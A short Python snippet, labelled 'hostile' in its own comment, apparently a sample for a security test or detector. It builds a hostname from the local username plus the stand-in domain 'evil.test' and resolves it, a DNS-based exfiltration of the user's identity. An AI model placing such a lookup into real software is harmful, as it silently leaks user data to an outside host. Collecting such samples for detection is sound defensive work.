# hostile: lookup of a hostname held in a variable
import socket
import getpass

host = getpass.getuser() + ".users.evil.test"
addr = socket.gethostbyname_ex(host)
print(addr)
